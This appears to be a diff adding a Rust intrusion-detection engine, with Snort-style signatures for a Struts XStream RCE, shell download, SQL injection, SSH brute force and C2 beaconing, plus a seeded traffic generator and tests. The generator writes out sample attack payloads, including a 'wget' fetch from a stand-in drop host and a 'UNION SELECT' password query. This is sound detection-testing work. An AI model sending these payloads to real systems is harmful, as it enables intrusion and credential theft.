@@ -1,0 +1,351 @@
+//! A network intrusion-detection engine in the style of Snort/Suricata:
+//! signature rules over packets, plus a seeded traffic generator.
+
+use cais_common::{Observable, ObservableKind, Timestamp};
+use rand::rngs::StdRng;
+use rand::seq::SliceRandom;
+use rand::{Rng, SeedableRng};
+use serde::{Deserialize, Serialize};
+
+use super::SensorEvent;
+use crate::alarm::AlarmSeverity;
+use crate::inventory::{Inventory, NodeId};
+
+/// A simplified network packet (the fields signatures inspect).
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct Packet {
+    /// Capture timestamp.
+    pub at: Timestamp,
+    /// Source IPv4 address.
+    pub src_ip: String,
+    /// Destination IPv4 address.
+    pub dst_ip: String,
+    /// Destination port.
+    pub dst_port: u16,
+    /// Decoded payload excerpt.
+    pub payload: String,
+}
+
+/// A detection signature.
+///
+/// All present conditions must hold (logical AND), mirroring Snort rule
+/// options.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct NidsRule {
+    /// Signature id (Snort SID-style).
+    pub sid: u32,
+    /// Message emitted on match.
+    pub message: String,
+    /// Severity of the finding.
+    pub severity: AlarmSeverity,
+    /// Destination port constraint.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub dst_port: Option<u16>,
+    /// Case-insensitive payload substring constraint.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub content: Option<String>,
+    /// Source IP constraint (exact).
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub src_ip: Option<String>,
+    /// Application the rule protects, when known.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub application: Option<String>,
+}
+
+impl NidsRule {
+    fn matches(&self, packet: &Packet) -> bool {
+        if let Some(port) = self.dst_port {
+            if packet.dst_port != port {
+                return false;
+            }
+        }
+        if let Some(content) = &self.content {
+            if !packet
+                .payload
+                .to_ascii_lowercase()
+                .contains(&content.to_ascii_lowercase())
+            {
+                return false;
+            }
+        }
+        if let Some(src) = &self.src_ip {
+            if packet.src_ip != *src {
+                return false;
+            }
+        }
+        true
+    }
+}
+
+/// The signature engine.
+#[derive(Debug, Clone, Default)]
+pub struct NidsEngine {
+    name: String,
+    rules: Vec<NidsRule>,
+}
+
+impl NidsEngine {
+    /// Creates an engine with no rules.
+    pub fn new(name: impl Into<String>) -> Self {
+        NidsEngine {
+            name: name.into(),
+            rules: Vec::new(),
+        }
+    }
+
+    /// A Suricata-flavored engine loaded with the default ruleset:
+    /// Struts RCE (the paper's use case), shell download, SQL injection,
+    /// port-scan and beaconing signatures.
+    pub fn with_default_rules(name: impl Into<String>) -> Self {
+        let mut engine = NidsEngine::new(name);
+        engine
+            .add_rule(NidsRule {
+                sid: 2_024_001,
+                message: "Apache Struts REST XStream RCE attempt (CVE-2017-9805)".into(),
+                severity: AlarmSeverity::High,
+                dst_port: Some(8080),
+                content: Some("xstream".into()),
+                src_ip: None,
+                application: Some("apache struts".into()),
+            })
+            .add_rule(NidsRule {
+                sid: 2_024_002,
+                message: "outbound shell download".into(),
+                severity: AlarmSeverity::High,
+                dst_port: None,
+                content: Some("wget http".into()),
+                src_ip: None,
+                application: None,
+            })
+            .add_rule(NidsRule {
+                sid: 2_024_003,
+                message: "SQL injection probe".into(),
+                severity: AlarmSeverity::Medium,
+                dst_port: Some(80),
+                content: Some("union select".into()),
+                src_ip: None,
+                application: Some("php".into()),
+            })
+            .add_rule(NidsRule {
+                sid: 2_024_004,
+                message: "ssh brute-force attempt".into(),
+                severity: AlarmSeverity::Medium,
+                dst_port: Some(22),
+                content: Some("ssh-2.0".into()),
+                src_ip: None,
+                application: None,
+            })
+            .add_rule(NidsRule {
+                sid: 2_024_005,
+                message: "possible c2 beacon".into(),
+                severity: AlarmSeverity::Low,
+                dst_port: Some(4444),
+                content: None,
+                src_ip: None,
+                application: None,
+            });
+        engine
+    }
+
+    /// Adds a rule.
+    pub fn add_rule(&mut self, rule: NidsRule) -> &mut Self {
+        self.rules.push(rule);
+        self
+    }
+
+    /// The loaded rules.
+    pub fn rules(&self) -> &[NidsRule] {
+        &self.rules
+    }
+
+    /// Inspects a packet against every rule, emitting one event per
+    /// matching signature. `inventory` attributes events to the node
+    /// owning the destination IP.
+    pub fn inspect(&self, packet: &Packet, inventory: &Inventory) -> Vec<SensorEvent> {
+        let node: Option<NodeId> = inventory.node_by_ip(&packet.dst_ip).map(|n| n.id);
+        self.rules
+            .iter()
+            .filter(|rule| rule.matches(packet))
+            .map(|rule| SensorEvent {
+                at: packet.at,
+                sensor: self.name.clone(),
+                node,
+                severity: rule.severity,
+                message: format!("[{}] {}", rule.sid, rule.message),
+                source_ip: Some(packet.src_ip.clone()),
+                destination_ip: Some(packet.dst_ip.clone()),
+                application: rule.application.clone(),
+                observables: vec![Observable::new(ObservableKind::Ipv4, &packet.src_ip)],
+            })
+            .collect()
+    }
+
+    /// Inspects a batch of packets.
+    pub fn inspect_all(&self, packets: &[Packet], inventory: &Inventory) -> Vec<SensorEvent> {
+        packets
+            .iter()
+            .flat_map(|p| self.inspect(p, inventory))
+            .collect()
+    }
+}
+
+/// Generates a seeded traffic mix: mostly benign background packets with
+/// `attack_fraction` of packets matching one of the default signatures.
+pub fn generate_traffic(
+    seed: u64,
+    count: usize,
+    attack_fraction: f64,
+    inventory: &Inventory,
+    base_time: Timestamp,
+) -> Vec<Packet> {
+    let mut rng = StdRng::seed_from_u64(seed);
+    let node_ips: Vec<String> = inventory
+        .nodes()
+        .flat_map(|n| n.ip_addresses.clone())
+        .collect();
+    let mut packets = Vec::with_capacity(count);
+    for i in 0..count {
+        let at = base_time.add_millis(i as i64 * 250);
+        let dst_ip = node_ips
+            .choose(&mut rng)
+            .cloned()
+            .unwrap_or_else(|| "192.0.2.1".to_owned());
+        let src_ip = format!(
+            "203.0.113.{}",
+            rng.gen_range(1..=254u8)
+        );
+        let packet = if rng.gen_bool(attack_fraction) {
+            match rng.gen_range(0..5) {
+                0 => Packet {
+                    at,
+                    src_ip,
+                    dst_ip,
+                    dst_port: 8080,
+                    payload: "POST /struts2-rest-showcase <map><entry/></map> XStreamHandler xstream".into(),
+                },
+                1 => Packet {
+                    at,
+                    src_ip,
+                    dst_ip,
+                    dst_port: 80,
+                    payload: "GET /tmp.sh; wget http://drop.example/p.sh".into(),
+                },
+                2 => Packet {
+                    at,
+                    src_ip,
+                    dst_ip,
+                    dst_port: 80,
+                    payload: "GET /page?id=1 UNION SELECT username,password FROM users".into(),
+                },
+                3 => Packet {
+                    at,
+                    src_ip,
+                    dst_ip,
+                    dst_port: 22,
+                    payload: "SSH-2.0-libssh brute".into(),
+                },
+                _ => Packet {
+                    at,
+                    src_ip,
+                    dst_ip,
+                    dst_port: 4444,
+                    payload: "beacon".into(),
+                },
+            }
+        } else {
+            Packet {
+                at,
+                src_ip,
+                dst_ip,
+                dst_port: *[80u16, 443, 53, 123].choose(&mut rng).expect("non-empty"),
+                payload: "GET /index.html HTTP/1.1".into(),
+            }
+        };
+        packets.push(packet);
+    }
+    packets
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn inventory() -> Inventory {
+        Inventory::paper_table3()
+    }
+
+    fn struts_packet() -> Packet {
+        Packet {
+            at: Timestamp::EPOCH,
+            src_ip: "203.0.113.9".into(),
+            dst_ip: "192.168.1.14".into(),
+            dst_port: 8080,
+            payload: "POST ... XStreamHandler xstream payload".into(),
+        }
+    }
+
+    #[test]
+    fn struts_rule_fires_and_attributes_node() {
+        let engine = NidsEngine::with_default_rules("suricata");
+        let events = engine.inspect(&struts_packet(), &inventory());
+        assert_eq!(events.len(), 1);
+        let event = &events[0];
+        assert_eq!(event.severity, AlarmSeverity::High);
+        assert_eq!(event.node, Some(NodeId(4)));
+        assert_eq!(event.application.as_deref(), Some("apache struts"));
+        assert!(event.message.contains("CVE-2017-9805"));
+        assert_eq!(event.observables[0].value(), "203.0.113.9");
+    }
+
+    #[test]
+    fn benign_packet_matches_nothing() {
+        let engine = NidsEngine::with_default_rules("suricata");
+        let packet = Packet {
+            at: Timestamp::EPOCH,
+            src_ip: "198.51.100.1".into(),
+            dst_ip: "192.168.1.11".into(),
+            dst_port: 443,
+            payload: "GET / HTTP/1.1".into(),
+        };
+        assert!(engine.inspect(&packet, &inventory()).is_empty());
+    }
+
+    #[test]
+    fn content_match_is_case_insensitive() {
+        let engine = NidsEngine::with_default_rules("snort");
+        let mut packet = struts_packet();
+        packet.payload = packet.payload.to_uppercase();
+        assert_eq!(engine.inspect(&packet, &inventory()).len(), 1);
+    }
+
+    #[test]
+    fn port_constraint_is_enforced() {
+        let engine = NidsEngine::with_default_rules("snort");
+        let mut packet = struts_packet();
+        packet.dst_port = 9090;
+        assert!(engine.inspect(&packet, &inventory()).is_empty());
+    }
+
+    #[test]
+    fn traffic_generator_is_seeded_and_mixes_attacks() {
+        let inv = inventory();
+        let a = generate_traffic(5, 500, 0.2, &inv, Timestamp::EPOCH);
+        let b = generate_traffic(5, 500, 0.2, &inv, Timestamp::EPOCH);
+        assert_eq!(a, b);
+        let engine = NidsEngine::with_default_rules("suricata");
+        let events = engine.inspect_all(&a, &inv);
+        let rate = events.len() as f64 / a.len() as f64;
+        assert!(
+            (0.1..0.35).contains(&rate),
+            "attack detection rate {rate} implausible"
+        );
+    }
+
+    #[test]
+    fn zero_attack_fraction_yields_silence() {
+        let inv = inventory();
+        let packets = generate_traffic(5, 200, 0.0, &inv, Timestamp::EPOCH);
+        let engine = NidsEngine::with_default_rules("suricata");
+        assert!(engine.inspect_all(&packets, &inv).is_empty());
+    }
+}
